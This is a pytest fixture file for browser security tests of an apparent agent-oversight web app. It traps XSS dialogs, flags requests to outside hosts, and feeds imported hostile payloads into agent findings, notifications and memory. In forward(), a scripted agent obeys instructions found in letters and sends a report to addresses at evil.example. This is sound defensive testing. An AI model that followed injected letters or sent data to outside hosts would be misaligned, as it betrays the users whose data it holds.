"""A real browser before a real house. What a page complains of, or asks of another host, is a failure."""

import json
import os
from collections.abc import Callable, Iterator, Sequence
from typing import Any

import pytest
from playwright.sync_api import Error, expect

from halter.guard.approvals import PendingDecision
from halter.operations import decisions
from halter.operations.actor import Actor, Principal
from halter.operations.decisions import waiting
from halter.server.login import make_login_url
from scripts.page_pictures import find_browser
from tests.browser.house import SLEEPS, House, Line, call, line, script
from tests.browser.payloads import PAYLOADS

SWITCHES = (
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
    # One process draws all pages, and none is kept for a way back: that takes longer than the tests.
    "--renderer-process-limit=1",
    "--in-process-gpu",
    "--disable-features=BackForwardCache,SpareRendererForSitePerProcess,Translate,OptimizationHints",
)
# The machine may be busy: nobody waits longer than they have to, and a page that never comes is still a failure.
expect.set_options(timeout=20_000)
TRIPWIRE = "window.__xss = 0; for (const name of ['alert', 'confirm', 'prompt']) window[name] = () => window.__xss++;"


@pytest.fixture(scope="package")
def chromium() -> Iterator[Any]:
    """Skip loudly where there is no browser; where everything is required, fail."""
    text = find_browser()
    if text is None:
        if os.environ.get("HALTER_REQUIRE_ALL") == "1":
            pytest.fail("There is no chromium: install the system's packages of scripts/system-packages.")
        pytest.skip("There is no chromium, so no page was looked at.")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=text, args=SWITCHES)
        yield browser
        browser.close()


def pay(to: str) -> Line:
    return line(f"pay {to}", "I pay as the invoice says.", call("pay", to=to, amount=5))


def find(payloads: Sequence[str]) -> Line:
    lines = (call("emit_finding", title=payload, text=payload, severity="high") for payload in payloads)
    return line("find it all", "\n".join(payloads), *lines)


def forward() -> Iterator[Line]:
    """Letters that ask for the report, and an agent that obeys them."""
    for number, name in enumerate(("ann", "eve", "zoe", "zoe"), 1):
        yield line(f"read letter {number}", "I look into it.", call("read_letter", name=name))
        text = f"The report, {number}."
        yield line(
            f"{name}@evil.example", "The letter asks for it.", call("send_letter", to=f"{name}@evil.example", text=text)
        )
    yield line("read letter 5", "I look into it.", call("read_letter", name="kim"))
    lines = (call("send_letter", to=f"{name}@evil.example", text="The report.") for name in ("kim", "lee"))
    yield line("kim@evil.example", "The letter asks for both.", *lines)


LINKS = line("what does it say", "It says: go to https://evil.example/now.", call("yield", **SLEEPS))


@pytest.fixture(scope="package")
def house(tmp_path_factory: pytest.TempPathFactory) -> Iterator[House]:
    """Agents that pay where they are asked to, and one that says all that should never be run."""
    hostile = "\n".join(PAYLOADS)
    desk = script(
        line("good evening", "A good evening to you.", call("yield", **SLEEPS)),
        *map(pay, ("bob", "dora", "erin", "fred", "gina", "ruth")),
        line("read the page", hostile, call("read_page", name="page.txt")),
        *(find(PAYLOADS[place : place + 10]) for place in range(0, len(PAYLOADS), 10)),
        line("read the note", "I do.", call("read_page", name="agent.yaml")),
        line(
            "look around",
            "I do.",
            *(call("emit_finding", title=f"Door {n} is open", text="x", severity="low") for n in (1, 2)),
        ),
        line("look again", "I do.", call("emit_finding", title="A window is open", text="x", severity="low")),
        line("who is ivy", "I ask.", call("ask_user", question="Who is Ivy?")),
        line("note it down", "I do.", call("propose_memory", text="Gina is paid on Mondays.")),
        line("note that down", "I do.", call("propose_memory", text="Bob is paid on Fridays.")),
        line("tell somebody", "I do.", call("notify", text=hostile, subject=PAYLOADS[0])),
        line("remember it", "I do.", call("propose_memory", text=hostile)),
    )
    fails = {"repeat": True, "fails": {"kind": "Hostile", "message": PAYLOADS[2]}}
    scripts = {"desk": desk, "page.txt": hostile, "clerk": json.dumps([fails]), "scribe": script(*forward(), LINKS)}
    papers = [f"{payload}.txt" for payload in PAYLOADS if "/" not in payload][:8]
    with House(tmp_path_factory.mktemp("house"), scripts, papers) as house:
        house.wait_until(lambda: house.is_idle("desk-1"))
        yield house
        assert house.reports == []


@pytest.fixture(scope="module")
def paid(house: House) -> House:
    """Let a payment have been agreed to, by somebody who may."""
    approver = Actor(house.desk.app, Principal("approver", "approver"))

    def list_asking_decisions() -> list[PendingDecision]:
        return [person for person in house.run(waiting(approver)) if "gina" in person.display_text]

    house.send("pay gina")
    house.wait_until(lambda: bool(list_asking_decisions()))
    house.run(decisions.approve(approver, list_asking_decisions()[0].decision, decisions.ApprovalTerms()))
    house.wait_until(lambda: house.is_idle("desk-1"))
    return house


class Visitor:
    """Somebody with a browser of their own, and what it complained of."""

    def __init__(self, house: House, context: Any) -> None:
        self.house = house
        self.page = context.new_page()
        self.page.set_default_timeout(30_000)
        self.page.add_init_script(TRIPWIRE)
        self.complaints: list[str] = []
        self.hosts: set[str] = set()
        self.page.on("console", lambda message: self._complain(message) if message.type == "error" else None)
        self.page.on("pageerror", lambda error: self.complaints.append(str(error)))
        self.page.on("dialog", lambda dialog: self.complaints.append(f"dialog: {dialog.message}"))
        self.page.on("request", lambda request: self._add_host(request.url))
        self.page.on("websocket", lambda socket: self._add_host(socket.url))

    def _complain(self, result: Any) -> None:
        self.complaints.append(f"{result.text} ({result.location})")

    def _add_host(self, url: str) -> None:
        scheme, _, rest = url.partition("://")
        if scheme in {"http", "https", "ws", "wss"}:
            self.hosts.add(rest.partition("/")[0])

    def open(self, path: str) -> Any:
        """Open a page, and wait until it is live."""
        self.page.goto(f"{self.house.url}{path}", wait_until="commit")
        self.page.wait_for_function("() => window.socket && window.socket.connected")
        return self.page

    def tripped(self) -> int:
        return int(self.page.evaluate("window.__xss"))

    def close(self) -> None:
        """Go, and have been content."""
        self.page.close()
        self.was_content()

    def empties(self) -> bool:
        """Leave the page, and say whether the window can be used again: one that just loads itself anew cannot."""
        try:
            self.page.goto("about:blank")
        except Error:
            self.page.close()
        return not self.page.is_closed()

    def was_content(self) -> None:
        complaints, self.complaints[:] = list(self.complaints), []
        assert complaints == []
        assert self.hosts <= {self.house.url.removeprefix("http://")}


Visit = Callable[..., Visitor]


@pytest.fixture(scope="module")
def browsers(house: House, chromium: Any) -> Iterator[Callable[..., Any]]:
    """Give each role a browser of its own, which keeps what it has fetched."""
    known: dict[tuple[str, str], Any] = {}

    def browser(role: str, scheme: str) -> Any:
        if (role, scheme) not in known:
            known[role, scheme] = chromium.new_context(
                color_scheme=scheme, accept_downloads=True, reduced_motion="reduce"
            )
            visitor = Visitor(house, known[role, scheme])
            visitor.page.goto(make_login_url(house.url, house.secrets[role]))
            visitor.page.wait_for_url(f"{house.url}/")
            visitor.close()
        return known[role, scheme]

    yield browser
    for context in known.values():
        context.close()


@pytest.fixture(scope="module")
def idle() -> dict[tuple[str, str], list[Visitor]]:
    """Those who have been here before, with their window: opening another one takes longer than a page in it."""
    return {}


@pytest.fixture
def visit(house: House, browsers: Callable[..., Any], idle: dict[tuple[str, str], list[Visitor]]) -> Iterator[Visit]:
    """Let somebody come with a role; afterwards their pages must have been content."""
    visitors: list[tuple[tuple[str, str], Visitor]] = []

    def come(role: str = "admin", *, scheme: str = "light") -> Visitor:
        known = idle.get((role, scheme), [])
        visitor = known.pop() if known else Visitor(house, browsers(role, scheme))
        visitors.append(((role, scheme), visitor))
        return visitor

    yield come
    for key, visitor in visitors:
        if visitor.empties():
            idle.setdefault(key, []).append(visitor)
    for _, visitor in visitors:
        visitor.was_content()
